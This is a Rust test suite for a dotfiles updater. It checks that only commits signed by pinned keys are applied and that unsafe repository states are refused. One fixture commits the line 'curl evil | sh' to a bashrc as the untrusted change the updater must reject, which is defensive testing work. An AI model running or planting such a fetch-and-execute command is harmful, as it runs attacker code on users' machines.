// SPDX-FileCopyrightText: 2025 Jason Pena <jasonpena@awkless.com>
// SPDX-License-Identifier: MIT

use crate::{FakeVerifier, RepoFixture, STRANGER, TRUSTED};

use anyhow::Result;
use git2::{Oid, Repository};
use homefiles::{
    config::UpdateSettings,
    update::{verify::Verdict, UpdateError, UpdateOptions, UpdateStatus, Updater},
};
use indicatif::ProgressBar;
use pretty_assertions::assert_eq;
use std::{fs, path::Path};

fn settings(pinned: &[&str]) -> Result<UpdateSettings> {
    Ok(UpdateSettings {
        fingerprints: pinned
            .iter()
            .map(|fpr| fpr.parse())
            .collect::<Result<Vec<_>, _>>()?,
        ..UpdateSettings::default()
    })
}

fn head_of(path: impl AsRef<Path>) -> Result<Oid> {
    Ok(Repository::open(path.as_ref())?
        .head()?
        .peel_to_commit()?
        .id())
}

#[test]
fn update_applies_trusted_commits() -> Result<()> {
    let dir = tempfile::tempdir()?;
    let origin = RepoFixture::new(dir.path().join("origin"))?;
    origin.commit_file("dotfiles/vimrc", "set nocompatible\n", Some(TRUSTED))?;
    let clone_path = dir.path().join("clone");
    origin.clone_into(&clone_path)?;

    origin.commit_file("dotfiles/zshrc", "autoload -Uz compinit\n", Some(TRUSTED))?;
    let latest = origin.commit_file("bin/hello", "#!/bin/sh\n", Some(TRUSTED))?;

    let updater = Updater::with_verifier(&clone_path, settings(&[TRUSTED])?, FakeVerifier)?;
    let status = updater.update(UpdateOptions::default(), ProgressBar::hidden())?;

    assert!(matches!(
        status,
        UpdateStatus::Updated { to, commits: 2, .. } if to == latest
    ));
    assert_eq!(head_of(&clone_path)?, latest);
    assert_eq!(
        fs::read_to_string(clone_path.join("dotfiles/zshrc"))?,
        "autoload -Uz compinit\n"
    );
    assert!(clone_path.join("bin/hello").exists());

    Ok(())
}

#[test]
fn update_rejects_untrusted_commit() -> Result<()> {
    let dir = tempfile::tempdir()?;
    let origin = RepoFixture::new(dir.path().join("origin"))?;
    let initial = origin.commit_file("dotfiles/vimrc", "set nocompatible\n", Some(TRUSTED))?;
    let clone_path = dir.path().join("clone");
    origin.clone_into(&clone_path)?;

    origin.commit_file("dotfiles/zshrc", "autoload -Uz compinit\n", Some(TRUSTED))?;
    let sneaky = origin.commit_file("dotfiles/bashrc", "curl evil | sh\n", Some(STRANGER))?;

    let updater = Updater::with_verifier(&clone_path, settings(&[TRUSTED])?, FakeVerifier)?;
    let result = updater.update(UpdateOptions::default(), ProgressBar::hidden());

    match result {
        Err(UpdateError::Untrusted { commit, verdict }) => {
            assert_eq!(commit, sneaky.to_string());
            assert_eq!(
                verdict,
                Verdict::Good {
                    signer: STRANGER.into(),
                    primary: None
                }
            );
        }
        other => panic!("expected untrusted commit, got {other:?}"),
    }
    assert_eq!(head_of(&clone_path)?, initial);
    assert!(!clone_path.join("dotfiles/zshrc").exists());

    Ok(())
}

#[test]
fn update_rejects_unsigned_commit() -> Result<()> {
    let dir = tempfile::tempdir()?;
    let origin = RepoFixture::new(dir.path().join("origin"))?;
    let initial = origin.commit_file("dotfiles/vimrc", "set nocompatible\n", Some(TRUSTED))?;
    let clone_path = dir.path().join("clone");
    origin.clone_into(&clone_path)?;

    origin.commit_file("dotfiles/zshrc", "autoload -Uz compinit\n", None)?;

    let updater = Updater::with_verifier(&clone_path, settings(&[TRUSTED])?, FakeVerifier)?;
    let result = updater.update(UpdateOptions::default(), ProgressBar::hidden());

    assert!(matches!(
        result,
        Err(UpdateError::Untrusted {
            verdict: Verdict::Unsigned,
            ..
        })
    ));
    assert_eq!(head_of(&clone_path)?, initial);

    Ok(())
}

#[test]
fn update_without_pinned_keys_is_refused() -> Result<()> {
    let dir = tempfile::tempdir()?;
    let origin = RepoFixture::new(dir.path().join("origin"))?;
    origin.commit_file("dotfiles/vimrc", "set nocompatible\n", Some(TRUSTED))?;
    let clone_path = dir.path().join("clone");
    origin.clone_into(&clone_path)?;
    origin.commit_file("dotfiles/zshrc", "autoload -Uz compinit\n", Some(TRUSTED))?;

    let updater = Updater::with_verifier(&clone_path, settings(&[])?, FakeVerifier)?;
    let result = updater.update(UpdateOptions::default(), ProgressBar::hidden());
    assert!(matches!(result, Err(UpdateError::NoPinnedKeys)));

    Ok(())
}

#[test]
fn dry_run_verifies_without_moving_head() -> Result<()> {
    let dir = tempfile::tempdir()?;
    let origin = RepoFixture::new(dir.path().join("origin"))?;
    let initial = origin.commit_file("dotfiles/vimrc", "set nocompatible\n", Some(TRUSTED))?;
    let clone_path = dir.path().join("clone");
    origin.clone_into(&clone_path)?;
    let latest = origin.commit_file("dotfiles/zshrc", "autoload -Uz compinit\n", Some(TRUSTED))?;

    let updater = Updater::with_verifier(&clone_path, settings(&[TRUSTED])?, FakeVerifier)?;
    let options = UpdateOptions { dry_run: true };
    let status = updater.update(options, ProgressBar::hidden())?;

    assert_eq!(
        status,
        UpdateStatus::Verified {
            from: initial,
            to: latest,
            commits: 1
        }
    );
    assert_eq!(head_of(&clone_path)?, initial);

    Ok(())
}

#[test]
fn update_when_nothing_incoming() -> Result<()> {
    let dir = tempfile::tempdir()?;
    let origin = RepoFixture::new(dir.path().join("origin"))?;
    origin.commit_file("dotfiles/vimrc", "set nocompatible\n", Some(TRUSTED))?;
    let clone_path = dir.path().join("clone");
    origin.clone_into(&clone_path)?;

    let updater = Updater::with_verifier(&clone_path, settings(&[TRUSTED])?, FakeVerifier)?;
    let status = updater.update(UpdateOptions::default(), ProgressBar::hidden())?;
    assert_eq!(status, UpdateStatus::UpToDate);

    Ok(())
}

#[test]
fn dirty_work_tree_blocks_update() -> Result<()> {
    let dir = tempfile::tempdir()?;
    let origin = RepoFixture::new(dir.path().join("origin"))?;
    origin.commit_file("dotfiles/vimrc", "set nocompatible\n", Some(TRUSTED))?;
    let clone_path = dir.path().join("clone");
    origin.clone_into(&clone_path)?;
    fs::write(clone_path.join("dotfiles/vimrc"), "set compatible\n")?;

    let updater = Updater::with_verifier(&clone_path, settings(&[TRUSTED])?, FakeVerifier)?;
    let result = updater.update(UpdateOptions::default(), ProgressBar::hidden());
    assert!(matches!(result, Err(UpdateError::Dirty(1))));

    Ok(())
}

#[test]
fn verify_revisions_reports_each_commit() -> Result<()> {
    let dir = tempfile::tempdir()?;
    let origin = RepoFixture::new(dir.path().join("origin"))?;
    origin.commit_file("dotfiles/vimrc", "set nocompatible\n", Some(TRUSTED))?;
    origin.commit_file("dotfiles/zshrc", "autoload -Uz compinit\n", None)?;

    let updater = Updater::with_verifier(origin.path(), settings(&[TRUSTED])?, FakeVerifier)?;
    let verdicts = updater.verify_revisions(["HEAD~1", "HEAD"])?;

    let trusted = verdicts.iter().map(|v| v.trusted).collect::<Vec<_>>();
    assert_eq!(trusted, vec![true, false]);
    assert_eq!(verdicts[1].verdict, Verdict::Unsigned);

    Ok(())
}

#[test]
fn diverged_history_is_refused() -> Result<()> {
    let dir = tempfile::tempdir()?;
    let origin = RepoFixture::new(dir.path().join("origin"))?;
    origin.commit_file("dotfiles/vimrc", "set nocompatible\n", Some(TRUSTED))?;
    let clone_path = dir.path().join("clone");
    origin.clone_into(&clone_path)?;

    let local =
        RepoFixture::open(&clone_path)?.commit_file("dotfiles/gitconfig", "[user]\n", None)?;
    origin.commit_file("dotfiles/zshrc", "autoload -Uz compinit\n", Some(TRUSTED))?;

    let updater = Updater::with_verifier(&clone_path, settings(&[TRUSTED])?, FakeVerifier)?;
    let result = updater.update(UpdateOptions::default(), ProgressBar::hidden());

    assert!(matches!(
        result,
        Err(UpdateError::Diverged { local: ref ours, .. }) if *ours == local.to_string()
    ));
    assert_eq!(head_of(&clone_path)?, local);
    assert!(!clone_path.join("dotfiles/zshrc").exists());

    Ok(())
}

#[test]
fn detached_head_is_refused() -> Result<()> {
    let dir = tempfile::tempdir()?;
    let origin = RepoFixture::new(dir.path().join("origin"))?;
    let initial = origin.commit_file("dotfiles/vimrc", "set nocompatible\n", Some(TRUSTED))?;
    let clone_path = dir.path().join("clone");
    let clone = origin.clone_into(&clone_path)?;
    clone.set_head_detached(initial)?;
    origin.commit_file("dotfiles/zshrc", "autoload -Uz compinit\n", Some(TRUSTED))?;

    for dry_run in [false, true] {
        let updater = Updater::with_verifier(&clone_path, settings(&[TRUSTED])?, FakeVerifier)?;
        let result = updater.update(UpdateOptions { dry_run }, ProgressBar::hidden());
        assert!(matches!(result, Err(UpdateError::Detached)));
    }
    assert_eq!(head_of(&clone_path)?, initial);

    Ok(())
}

#[test]
fn configured_branch_must_be_checked_out() -> Result<()> {
    let dir = tempfile::tempdir()?;
    let origin = RepoFixture::new(dir.path().join("origin"))?;
    let initial = origin.commit_file("dotfiles/vimrc", "set nocompatible\n", Some(TRUSTED))?;
    let clone_path = dir.path().join("clone");
    origin.clone_into(&clone_path)?;
    origin.commit_file("dotfiles/zshrc", "autoload -Uz compinit\n", Some(TRUSTED))?;

    let mut settings = settings(&[TRUSTED])?;
    settings.branch = Some("stable".into());
    let updater = Updater::with_verifier(&clone_path, settings, FakeVerifier)?;
    let result = updater.update(UpdateOptions::default(), ProgressBar::hidden());

    match result {
        Err(UpdateError::BranchMismatch {
            configured,
            checked_out,
        }) => {
            assert_eq!(configured, "stable");
            assert_eq!(checked_out, "main");
        }
        other => panic!("expected branch mismatch, got {other:?}"),
    }
    assert_eq!(head_of(&clone_path)?, initial);

    Ok(())
}

#[test]
fn bare_repository_is_refused() -> Result<()> {
    let dir = tempfile::tempdir()?;
    let bare = dir.path().join("bare.git");
    Repository::init_bare(&bare)?;

    let result = Updater::with_verifier(&bare, settings(&[TRUSTED])?, FakeVerifier);
    assert!(matches!(result, Err(UpdateError::Bare)));

    Ok(())
}
